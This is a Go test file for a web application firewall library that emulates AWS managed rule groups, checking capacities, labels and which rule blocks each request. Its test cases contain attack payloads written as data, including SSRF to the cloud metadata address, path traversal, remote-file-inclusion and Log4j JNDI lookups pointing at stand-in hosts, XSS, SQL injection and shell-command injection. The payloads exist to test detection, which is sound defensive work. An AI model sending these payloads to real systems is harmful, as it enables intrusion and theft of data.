package managed

import (
	"net/netip"
	"sort"
	"strings"
	"testing"

	"github.com/moatdev/moat/waf"
)

func aclUsing(groupNames ...string) string {
	var rules []string
	for i, n := range groupNames {
		rules = append(rules, `{"Name":"AWS-`+n+`","Priority":`+string(rune('0'+i))+`,"OverrideAction":{"None":{}},
		"Statement":{"ManagedRuleGroupStatement":{"VendorName":"AWS","Name":"`+n+`"}},
		"VisibilityConfig":{"SampledRequestsEnabled":true,"CloudWatchMetricsEnabled":true,"MetricName":"`+n+`"}}`)
	}
	return `{"Name":"managed","DefaultAction":{"Allow":{}},"Rules":[` + strings.Join(rules, ",") + `]}`
}

func ipSets() []*waf.IPSetDoc {
	var out []*waf.IPSetDoc
	for i, n := range []string{"AWSManagedIPReputationList", "AWSManagedReconnaissanceList", "AWSManagedIPDDoSList", "AnonymousIPList", "HostingProviderIPList"} {
		out = append(out, &waf.IPSetDoc{Name: n, IPAddressVersion: "IPV4", Addresses: []string{"192.0.2." + string(rune('1'+i)) + "/32"}})
	}
	return out
}

func compile(t *testing.T, names ...string) *waf.WebACL {
	t.Helper()
	f, err := waf.ParseWebACL([]byte(aclUsing(names...)))
	if err != nil {
		t.Fatal(err)
	}
	w, err := waf.Compile(f, waf.Options{Resources: waf.Resources{IPSets: ipSets()}})
	if err != nil {
		t.Fatal(err)
	}
	return w
}

func TestGroupsCompileAtAWSCapacity(t *testing.T) {
	t.Parallel()
	want := map[string]int64{
		"AWSManagedRulesCommonRuleSet": 700, "AWSManagedRulesKnownBadInputsRuleSet": 200, "AWSManagedRulesSQLiRuleSet": 200,
		"AWSManagedRulesLinuxRuleSet": 200, "AWSManagedRulesUnixRuleSet": 100, "AWSManagedRulesAmazonIpReputationList": 25,
		"AWSManagedRulesAnonymousIpList": 50,
	}
	names := Names()
	sort.Strings(names)
	if len(names) != len(want) {
		t.Fatalf("groups %v", names)
	}
	for _, n := range names {
		if c := compile(t, n).Capacity(); c != want[n] {
			t.Errorf("%s: capacity %d, want AWS's %d", n, c, want[n])
		}
	}
	// without the IP sets the IP list groups say what is missing
	f, _ := waf.ParseWebACL([]byte(aclUsing("AWSManagedRulesAnonymousIpList")))
	if _, err := waf.Compile(f, waf.Options{}); err == nil || !strings.Contains(err.Error(), "AnonymousIPList") {
		t.Fatalf("missing IP set: %v", err)
	}
}

func req(method, uri string, headers ...string) *waf.Request {
	r := &waf.Request{Method: method, URI: uri, ClientIP: netip.MustParseAddr("203.0.113.9"),
		Headers: []waf.Header{{Name: "Host", Value: "shop.example.com"}, {Name: "User-Agent", Value: "Mozilla/5.0"}}}
	for i := 0; i+1 < len(headers); i += 2 {
		replaced := false
		for j := range r.Headers {
			if strings.EqualFold(r.Headers[j].Name, headers[i]) {
				r.Headers[j].Value, replaced = headers[i+1], true
			}
		}
		if !replaced {
			r.Headers = append(r.Headers, waf.Header{Name: headers[i], Value: headers[i+1]})
		}
	}
	return r
}

func post(uri, body string) *waf.Request {
	r := req("POST", uri)
	r.Body = []byte(body)
	return r
}

// One request per rule, each matching that rule first, with AWS's label.
func TestRules(t *testing.T) {
	t.Parallel()
	all := compile(t, Names()...)
	noUA := req("GET", "/")
	noUA.Headers = noUA.Headers[:1]
	cases := []struct {
		rule, label string
		r           *waf.Request
	}{
		{"NoUserAgent_HEADER", "awswaf:managed:aws:core-rule-set:NoUserAgent_Header", noUA},
		{"UserAgent_BadBots_HEADER", "awswaf:managed:aws:core-rule-set:BadBots_Header", req("GET", "/", "User-Agent", "Mozilla/5.00 (Nikto/2.1.6)")},
		{"SizeRestrictions_QUERYSTRING", "awswaf:managed:aws:core-rule-set:SizeRestrictions_QueryString", req("GET", "/?q="+strings.Repeat("a", 2047))},
		{"SizeRestrictions_Cookie_HEADER", "awswaf:managed:aws:core-rule-set:SizeRestrictions_Cookie_Header", req("GET", "/", "Cookie", "a="+strings.Repeat("b", 10239))},
		{"SizeRestrictions_BODY", "awswaf:managed:aws:core-rule-set:SizeRestrictions_Body", post("/", strings.Repeat("a", 8193))},
		{"SizeRestrictions_URIPATH", "awswaf:managed:aws:core-rule-set:SizeRestrictions_URIPath", req("GET", "/"+strings.Repeat("a", 1024))},
		{"EC2MetaDataSSRF_BODY", "awswaf:managed:aws:core-rule-set:EC2MetaDataSSRF_Body", post("/hook", "url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F")},
		{"EC2MetaDataSSRF_COOKIE", "awswaf:managed:aws:core-rule-set:EC2MetaDataSSRF_Cookie", req("GET", "/", "Cookie", "next=http://169.254.169.254/latest")},
		{"EC2MetaDataSSRF_URIPATH", "awswaf:managed:aws:core-rule-set:EC2MetaDataSSRF_URIPath", req("GET", "/proxy/169.254.169.254/latest/meta-data")},
		{"EC2MetaDataSSRF_QUERYARGUMENTS", "awswaf:managed:aws:core-rule-set:EC2MetaDataSSRF_QueryArguments", req("GET", "/fetch?u=http://[fd00:ec2::254]/latest/")},
		{"GenericLFI_QUERYARGUMENTS", "awswaf:managed:aws:core-rule-set:GenericLFI_QueryArguments", req("GET", "/dl?f=..%2f..%2fsecret.txt")},
		{"GenericLFI_URIPATH", "awswaf:managed:aws:core-rule-set:GenericLFI_URIPath", req("GET", "/static/..%2f..%2fapp.py")},
		{"GenericLFI_BODY", "awswaf:managed:aws:core-rule-set:GenericLFI_Body", post("/", "f=../../secret.txt")},
		{"RestrictedExtensions_URIPATH", "awswaf:managed:aws:core-rule-set:RestrictedExtensions_URIPath", req("GET", "/logs/app.log")},
		{"RestrictedExtensions_QUERYARGUMENTS", "awswaf:managed:aws:core-rule-set:RestrictedExtensions_QueryArguments", req("GET", "/view?file=config.ini")},
		{"GenericRFI_QUERYARGUMENTS", "awswaf:managed:aws:core-rule-set:GenericRFI_QueryArguments", req("GET", "/page?inc=http%3A%2F%2F203.0.113.66%2Fshell.txt")},
		{"GenericRFI_BODY", "awswaf:managed:aws:core-rule-set:GenericRFI_Body", post("/", "inc=ftp://198.51.100.23/x.php")},
		{"GenericRFI_URIPATH", "awswaf:managed:aws:core-rule-set:GenericRFI_URIPath", req("GET", "/go/http://203.0.113.66/x")},
		{"CrossSiteScripting_COOKIE", "awswaf:managed:aws:core-rule-set:CrossSiteScripting_Cookie", req("GET", "/", "Cookie", "name=%3Cscript%3Ealert(1)%3C/script%3E")},
		{"CrossSiteScripting_QUERYARGUMENTS", "awswaf:managed:aws:core-rule-set:CrossSiteScripting_QueryArguments", req("GET", "/?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E")},
		{"CrossSiteScripting_BODY", "awswaf:managed:aws:core-rule-set:CrossSiteScripting_Body", post("/", "c=%3Csvg%2Fonload%3Dalert(1)%3E")},
		{"CrossSiteScripting_URIPATH", "awswaf:managed:aws:core-rule-set:CrossSiteScripting_URIPath", req("GET", "/%3Cscript%3Ealert(1)%3C/script%3E")},
		{"JavaDeserializationRCE_HEADER", "awswaf:managed:aws:known-bad-inputs:JavaDeserializationRCE_Header", req("GET", "/", "X-Api", `(java.lang.Runtime).getRuntime().exec("whoami")`)},
		{"JavaDeserializationRCE_BODY", "awswaf:managed:aws:known-bad-inputs:JavaDeserializationRCE_Body", post("/", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x")},
		{"JavaDeserializationRCE_QUERYSTRING", "awswaf:managed:aws:known-bad-inputs:JavaDeserializationRCE_QueryString", req("GET", "/?x=T(java.lang.Runtime)")},
		{"Host_localhost_HEADER", "awswaf:managed:aws:known-bad-inputs:Host_Localhost_Header", req("GET", "/", "Host", "localhost:8080")},
		{"PROPFIND_METHOD", "awswaf:managed:aws:known-bad-inputs:Propfind_Method", req("PROPFIND", "/")},
		{"ExploitablePaths_URIPATH", "awswaf:managed:aws:known-bad-inputs:ExploitablePaths_URIPath", req("GET", "/app/WEB-INF/web.xml")},
		{"Log4JRCE_HEADER", "awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header", req("GET", "/", "User-Agent", "${jndi:ldap://203.0.113.5/a}")},
		{"Log4JRCE_QUERYSTRING", "awswaf:managed:aws:known-bad-inputs:Log4JRCE_QueryString", req("GET", "/?x=%24%7B%24%7Blower%3Aj%7Dndi%3Adns%3A%2F%2Fx%7D")},
		{"Log4JRCE_BODY", "awswaf:managed:aws:known-bad-inputs:Log4JRCE_Body", post("/", "a=${jndi:rmi://x/y}")},
		{"SQLi_QUERYARGUMENTS", "awswaf:managed:aws:sql-database:SQLi_QueryArguments", req("GET", "/item?id=1%27%20OR%20%271%27%3D%271")},
		{"SQLiExtendedPatterns_QUERYARGUMENTS", "awswaf:managed:aws:sql-database:SQLiExtendedPatterns_QueryArguments", req("GET", "/item?id=x%27%3B%20INSERT%20INTO%20log%20VALUES(1)")},
		{"SQLi_BODY", "awswaf:managed:aws:sql-database:SQLi_Body", post("/login", "user=1%20UNION%20SELECT%20password%20FROM%20users--")},
		{"SQLi_COOKIE", "awswaf:managed:aws:sql-database:SQLi_Cookie", req("GET", "/", "Cookie", "id=1' OR '1'='1")},
		{"LFI_URIPATH", "awswaf:managed:aws:linux-os:LFI_URIPath", req("GET", "/files/etc/passwd")},
		{"LFI_QUERYSTRING", "awswaf:managed:aws:linux-os:LFI_QueryString", req("GET", "/?p=/proc/self/environ")},
		{"LFI_HEADER", "awswaf:managed:aws:linux-os:LFI_Header", req("GET", "/", "Referer", "file:///etc/shadow")},
		{"UNIXShellCommandsVariables_QUERYARGUMENTS", "awswaf:managed:aws:posix-os:UNIXShellCommandsVariables_QueryArguments", req("GET", "/?host=x%3B%20uname%20-a")},
		{"UNIXShellCommandsVariables_BODY", "awswaf:managed:aws:posix-os:UNIXShellCommandsVariables_Body", post("/", "host=x|cat${IFS}x")},
		{"AWSManagedIPReputationList", "awswaf:managed:aws:amazon-ip-list:AWSManagedIPReputationList", &waf.Request{Method: "GET", URI: "/", ClientIP: netip.MustParseAddr("192.0.2.1"), Headers: []waf.Header{{Name: "User-Agent", Value: "x"}}}},
		{"HostingProviderIPList", "awswaf:managed:aws:anonymous-ip-list:HostingProviderIPList", &waf.Request{Method: "GET", URI: "/", ClientIP: netip.MustParseAddr("192.0.2.5"), Headers: []waf.Header{{Name: "User-Agent", Value: "x"}}}},
	}
	var res waf.Result
	for _, c := range cases {
		all.Evaluate(c.r, &res)
		found := false
		for _, l := range res.Labels {
			found = found || l == c.label
		}
		if res.Action != waf.Block || res.TerminatingGroupRule != c.rule || !found {
			t.Errorf("%s: got %s by %s/%s, labels %v", c.rule, res.Action, res.TerminatingRuleID, res.TerminatingGroupRule, res.Labels)
		}
	}
	// AWSManagedIPDDoSList counts (AWS's default action) and labels.
	all.Evaluate(&waf.Request{Method: "GET", URI: "/", ClientIP: netip.MustParseAddr("192.0.2.3"), Headers: []waf.Header{{Name: "User-Agent", Value: "x"}}}, &res)
	if res.Action != waf.Allow || res.Labels[0] != "awswaf:managed:aws:amazon-ip-list:AWSManagedIPDDoSList" {
		t.Errorf("AWSManagedIPDDoSList: %s %v", res.Action, res.Labels)
	}
	// benign requests pass every group
	for _, r := range []*waf.Request{req("GET", "/search?q=running+shoes"), req("GET", "/css/site.css"), post("/api/orders", `{"item":"o'reilly book","qty":2}`),
		req("GET", "/search?q=select+a+size+from+the+menu"), req("GET", "/docs?page=the+..%2F+notation")} {
		if all.Evaluate(r, &res); res.Action != waf.Allow {
			t.Errorf("benign %s %s: %s by %s/%s", r.Method, r.URI, res.Action, res.TerminatingRuleID, res.TerminatingGroupRule)
		}
	}
}

func TestLookupAndCheckCapacity(t *testing.T) {
	t.Parallel()
	g, err := waf.LookupManagedRuleGroup("AWS", "AWSManagedRulesSQLiRuleSet")
	if err != nil || g.Capacity != 200 || len(g.Rules) != 5 {
		t.Fatalf("lookup: %v %+v", err, g)
	}
	labels := g.AvailableLabels()
	if len(labels) != 5 || labels[0] != "awswaf:managed:aws:sql-database:SQLi_QueryArguments" {
		t.Fatalf("labels %v", labels)
	}
	if _, err := waf.LookupManagedRuleGroup("AWS", "AWSManagedRulesNope"); err == nil {
		t.Fatal("unknown group found")
	}
	f, err := waf.ParseWebACL([]byte(aclUsing("AWSManagedRulesSQLiRuleSet", "AWSManagedRulesLinuxRuleSet")))
	if err != nil {
		t.Fatal(err)
	}
	if n, err := waf.CheckCapacity(f.Rules, waf.Options{}); err != nil || n != 400 {
		t.Fatalf("CheckCapacity = %d, %v; want 400", n, err)
	}
	bad := append(f.Rules, f.Rules[0])
	if _, err := waf.CheckCapacity(bad, waf.Options{}); err == nil || !strings.Contains(err.Error(), "Rules[2]") {
		t.Fatalf("duplicate rule: %v", err)
	}
}
